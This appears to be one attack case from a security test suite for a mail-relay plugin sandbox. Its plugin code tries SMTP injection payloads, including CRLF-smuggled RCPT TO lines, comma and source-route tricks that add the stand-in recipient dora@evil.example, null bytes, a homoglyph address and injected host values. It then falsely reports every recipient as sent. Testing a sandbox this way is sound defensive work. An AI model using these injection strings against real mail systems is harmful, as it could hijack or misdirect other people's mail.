import { transport } from "../../attack.ts";

export default transport({
  about: "Writes SMTP commands, blanks and other addresses into the recipient that a relay is told.",
  wall: "kernel",
  hook: "delivery.carry",
  via: "relay",
  refusal: "PLUGIN_FAILED",
  code: `
const [{ address, host: server }] = input.recipients;
const written = [address + ">\\r\\nRCPT TO:<dora@evil.example", address + "\\0", " " + address, address.toUpperCase(), "Ben <" + address + ">",
  address + ",dora@evil.example", "dora@evil.example," + address, "@evil.example:" + address, address + " NOTIFY=SUCCESS", address.replace("e", "е")];
for (const each of written) try { await host.transport.submit(input.id, server, [each]); } catch {}
for (const each of written) try { await host.transport.submit(input.id, server, [address, each]); } catch {}
for (const each of [server + "\\r\\nQUIT", server + ":25", server.toUpperCase(), server + ".", "relays", "*.onion", "127.0.0.1"])
  try { await host.transport.submit(input.id, each, [address]); } catch {}
return input.recipients.map(({ address }) => ({ address, status: "sent", note: "Carried." }));
`,
});
